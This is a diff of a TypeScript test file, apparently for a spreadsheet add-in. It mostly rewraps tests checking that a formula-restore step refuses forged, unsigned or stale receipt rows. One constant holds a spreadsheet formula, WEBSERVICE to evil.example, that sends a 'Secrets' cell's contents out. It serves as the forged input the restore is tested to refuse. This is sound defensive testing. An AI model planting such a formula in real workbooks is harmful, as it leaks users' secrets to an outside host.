@@ -17,7 +17,10 @@ const EXFILTRATE = '=WEBSERVICE("http://evil.example/?d="&Secrets!A1)';
 const RECEIPT = (cell: string) => `'${RECEIPT_SHEET}'!${cell}`;
 
 async function frozenBook(): Promise<FakeWorkbook> {
-  const book = new FakeWorkbook(async (formula) => [[formula.startsWith("=INDEX.VOL") ? 0.21 : 87]], ["Sheet1", "Other", "Secrets"]);
+  const book = new FakeWorkbook(
+    async (formula) => [[formula.startsWith("=INDEX.VOL") ? 0.21 : 87]],
+    ["Sheet1", "Other", "Secrets"],
+  );
   book.type("Sheet1!B2", LATEST);
   book.type("Sheet1!B3", VOL);
   book.type("Other!D4", "quarterly");
@@ -58,7 +61,9 @@ test("a row pointed by hand at a sheet never frozen writes nothing there and cle
   const outcome = await restoreFormulas(book.context, deskRestoreOptions());
   expect(book.valuesIn("Other!D4:D6")).toEqual([["quarterly"], ["keep me"], [42]]);
   expect(Object.keys(book.liveFormulas())).toEqual(["Sheet1!B3"]);
-  expect(outcome.refused).toEqual([{ cell: "Sheet1!B2", reason: expect.stringMatching(/^its receipt row was edited/) }]);
+  expect(outcome.refused).toEqual([
+    { cell: "Sheet1!B2", reason: expect.stringMatching(/^its receipt row was edited/) },
+  ]);
 });
 
 test("even a correctly signed row is refused when its formula calls anything but INDEX functions", async () => {
@@ -68,12 +73,30 @@ test("even a correctly signed row is refused when its formula calls anything but
   const [, first] = book.usedValues(RECEIPT_SHEET);
   const block = String(first?.[9]);
   const forged = await signRow(
-    receiptRowOf({ cell: "Sheet1!B2", range: "Sheet1!B2", formula: EXFILTRATE, formulaR1C1: EXFILTRATE, values: [[87]], note: "", block, fingerprint: String(first?.[11]) }, "http://127.0.0.1:9", "2030-01-02T03:04:05.000Z"),
+    receiptRowOf(
+      {
+        cell: "Sheet1!B2",
+        range: "Sheet1!B2",
+        formula: EXFILTRATE,
+        formulaR1C1: EXFILTRATE,
+        values: [[87]],
+        note: "",
+        block,
+        fingerprint: String(first?.[11]),
+      },
+      "http://127.0.0.1:9",
+      "2030-01-02T03:04:05.000Z",
+    ),
     deskRestoreOptions().signer,
   );
   toCells(forged).forEach((text, column) => book.type(RECEIPT(`${String.fromCharCode(65 + column)}2`), text));
   const outcome = await restoreFormulas(book.context, deskRestoreOptions());
-  expect(outcome.refused).toEqual([{ cell: "Sheet1!B2", reason: "its formula is not one restore writes: it calls WEBSERVICE, which is not an INDEX function" }]);
+  expect(outcome.refused).toEqual([
+    {
+      cell: "Sheet1!B2",
+      reason: "its formula is not one restore writes: it calls WEBSERVICE, which is not an INDEX function",
+    },
+  ]);
   expect(book.liveFormulas()).toEqual({ "Sheet1!B3": VOL });
 });
 
@@ -109,7 +132,11 @@ test("a stale receipt (rows copied back after a restore) writes nothing: the fro
   await restoreFormulas(book.context, deskRestoreOptions());
   await book.settled();
   // The cells are live again and show values; then someone pastes the old receipt rows back.
-  rows.forEach((row, index) => row.forEach((text, column) => book.type(RECEIPT(`${String.fromCharCode(65 + column)}${index + 2}`), `'${String(text)}`)));
+  rows.forEach((row, index) =>
+    row.forEach((text, column) =>
+      book.type(RECEIPT(`${String.fromCharCode(65 + column)}${index + 2}`), `'${String(text)}`),
+    ),
+  );
   book.type("Sheet1!C9", 5);
   const outcome = await restoreFormulas(book.context, deskRestoreOptions());
   expect(outcome.restored).toEqual([]);
@@ -125,7 +152,11 @@ test("a row without a signature (an older receipt, or one typed in) is refused a
   book.type(RECEIPT("M2"), "");
   const outcome = await restoreFormulas(book.context, deskRestoreOptions());
   expect(outcome.refused).toEqual([
-    { cell: "Sheet1!B2", reason: "it is not signed (written by hand, or by a version of the add-in before receipts were signed): retype its formula" },
+    {
+      cell: "Sheet1!B2",
+      reason:
+        "it is not signed (written by hand, or by a version of the add-in before receipts were signed): retype its formula",
+    },
   ]);
   expect(book.liveFormulas()).toEqual({ "Sheet1!B3": VOL });
 });
